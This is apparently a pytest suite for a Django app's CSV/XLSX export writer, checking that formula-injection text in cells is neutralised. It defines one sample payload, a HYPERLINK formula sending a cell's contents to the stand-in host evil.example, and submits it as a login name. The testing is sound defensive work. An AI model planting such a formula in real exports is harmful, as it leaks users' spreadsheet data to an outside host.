"""The one export writer: text a spreadsheet would run is neutralised, numbers stay numbers, XLSX
cells are strings (never formulas). Files are read back with the csv module and openpyxl."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import Formula, csv_text, safe_cell, tabular_bytes, tabular_response

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A2,"Ver")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def xlsx_cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def assert_xlsx_is_inert(data: bytes) -> None:
    cells = xlsx_cells(data)
    assert cells, "the workbook is empty"
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formula cells in the export"
    for cell in cells:
        if isinstance(cell.value, str):
            assert not cell.value.startswith(TRIGGERS), cell.value


def _is_number(text: str) -> bool:
    try:
        Decimal(text.replace(",", "."))
    except ArithmeticError:
        return False
    return True


def assert_csv_is_inert(text: str) -> None:
    """No cell starts with a trigger, except a plain number (a written Decimal such as -15.50)."""
    for row in csv_cells(text):
        for cell in row:
            assert not cell.startswith(TRIGGERS) or _is_number(cell), cell


@pytest.mark.parametrize("text", ["=1+2", "+1", "-A1", "@SUM(A1)", "\tx", "\rx", PAYLOAD, "-5"])
def test_it_prefixes_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-15.50"), -5, 3.25, 0])
def test_it_leaves_numbers_that_are_numbers_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", ["Ana", "", "A-1", "1-2", "ok=1"])
def test_it_leaves_harmless_text_alone(value):
    assert safe_cell(value) == value


def test_it_writes_dates_as_iso_text_and_none_as_empty():
    assert safe_cell(dt.date(2026, 1, 31)) == "2026-01-31"
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


def test_a_csv_keeps_numbers_and_prefixes_text():
    text = csv_text([[PAYLOAD, Decimal("-15.50"), "-5"]], ["=head", "b", "c"])
    assert csv_cells(text) == [["'=head", "b", "c"], ["'" + PAYLOAD, "-15.50", "'-5"]]


def test_an_xlsx_has_string_cells_numbers_and_dates_but_no_formulas():
    data = tabular_bytes([[PAYLOAD, Decimal("-15.50"), dt.date(2026, 1, 31), "=1+1"]], ["=h"], format="xlsx")
    cells = xlsx_cells(data)
    second = [c for c in cells if c.row == 2]
    assert [c.data_type for c in second] == ["s", "n", "d", "s"]
    assert second[0].value == "'" + PAYLOAD and second[1].value == Decimal("-15.50")
    assert_xlsx_is_inert(data)


def test_only_an_explicit_formula_becomes_one():
    data = tabular_bytes([[1, 2, Formula("=A1+B1")]], format="xlsx")
    assert [c.data_type for c in xlsx_cells(data)] == ["n", "n", "f"]


def test_control_characters_openpyxl_refuses_do_not_break_the_xlsx():
    data = tabular_bytes([["a\x01b"]], format="xlsx")
    assert xlsx_cells(data)[0].value == "a\ufffdb"


def test_the_response_names_the_file_and_its_type():
    response = tabular_response([["x"]], ["h"], format="xlsx", filename="informe")
    assert response["Content-Disposition"] == 'attachment; filename="informe.xlsx"'
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


@pytest.mark.django_db
def test_a_failed_login_name_reaches_the_audit_csv_neutralised(world, client, client_for):
    client.post("/cuenta/login/", {"login": PAYLOAD, "password": "wrong"})

    export = client_for(world.compliance).get("/organizacion/auditoria/exportar.csv")
    text = b"".join(export.streaming_content).decode("utf-8")

    assert "'" + PAYLOAD in [cell for row in csv_cells(text) for cell in row]
    assert_csv_is_inert(text)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("page", ["matriz", "habilitados"])
def test_an_employee_name_cannot_become_a_formula_in_the_certification_exports(world, client_for, fmt, page):
    world.agent_employee.first_name = "=1+2"
    world.agent_employee.save()

    response = client_for(world.hr).get(f"/certificacion/rrhh/{page}/", {"format": fmt, "campaign": world.campaign.pk})

    assert response.status_code == 200
    if fmt == "xlsx":
        assert_xlsx_is_inert(response.content)
        assert any(str(c.value).startswith("'=1+2") for c in xlsx_cells(response.content))
    else:
        text = response.content.decode("utf-8")
        assert_csv_is_inert(text)
        assert any(cell.startswith("'=1+2") for row in csv_cells(text) for cell in row)
